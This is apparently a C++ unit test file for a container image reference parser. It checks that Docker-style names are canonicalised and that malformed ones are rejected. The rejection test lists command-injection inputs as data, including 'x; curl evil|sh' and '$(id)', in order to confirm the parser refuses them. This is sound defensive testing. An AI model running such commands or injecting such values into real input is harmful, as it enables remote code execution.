// SPDX-License-Identifier: Apache-2.0
#include "oci/reference.hpp"

#include <gtest/gtest.h>

#include "base/error.hpp"

namespace {

const std::string kDigest =
    "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";

struct Row {
  std::string text;
  std::string canonical;
};

}  // namespace

TEST(Reference, ReadsNamesAsDockerDoes) {
  const Row rows[] = {
      {"debian", "docker.io/library/debian:latest"},
      {"debian:12", "docker.io/library/debian:12"},
      {"team/app", "docker.io/team/app:latest"},
      {"index.docker.io/team/app:1", "docker.io/team/app:1"},
      {"registry-1.docker.io/library/debian", "docker.io/library/debian:latest"},
      {"localhost/app", "localhost/app:latest"},
      {"localhost:5000/a/b__c/d-e.f:V1.2_3", "localhost:5000/a/b__c/d-e.f:V1.2_3"},
      {"[::1]:5000/app", "[::1]:5000/app:latest"},
      {"QUAY.io/kairos/debian", "quay.io/kairos/debian:latest"},
      {"HOST:443/debian", "host:443/debian:latest"},
      {"LocalHost/debian", "localhost/debian:latest"},
      {"quay.io/a@" + kDigest, "quay.io/a@" + kDigest},
      {"quay.io/a:1@" + kDigest, "quay.io/a:1@" + kDigest},
  };
  for (const auto& row : rows) {
    const auto reference = oci::Reference::parse(row.text);
    EXPECT_EQ(reference.text(), row.canonical) << row.text;
    EXPECT_EQ(oci::Reference::parse(reference.text()).text(), row.canonical) << row.text;
  }
}

TEST(Reference, Case117RefusesWhatIsOutsideTheGrammar) {
  for (const std::string& text :
       {std::string(""), std::string("x; curl evil|sh"), std::string("a b"), std::string("-v"),
        std::string("quay.io/UPPER/x"), std::string("quay.io/a:" + std::string(129, 't')),
        std::string("quay.io/a@" + kDigest + ":tag"), std::string("https://quay.io/a"),
        std::string("quay.io/"), std::string("quay.io/a//b"), std::string("quay.io/a:"),
        std::string("quay.io:99999999/a"), std::string("$(id)"), std::string("HOST/debian"),
        std::string("a\nb"), std::string("quay.io/../x"), std::string("quay.io/a.-b"),
        std::string("a@sha256:abc")}) {
    EXPECT_THROW(oci::Reference::parse(text), base::Error) << text;
  }
}

TEST(Reference, Case117TheDigestRulesAndTheTagIsRecorded) {
  EXPECT_EQ(oci::Reference::parse("quay.io/a:1@" + kDigest).manifest_reference(), kDigest);
  EXPECT_EQ(oci::Reference::parse("quay.io/a:1@" + kDigest).tag, "1");
  EXPECT_EQ(oci::Reference::parse("quay.io/a@" + kDigest).tag, "");
  EXPECT_EQ(oci::Reference::parse("quay.io/a:1").manifest_reference(), "1");
  EXPECT_NO_THROW(oci::Reference::parse("quay.io/a:" + std::string(128, 't')));
}
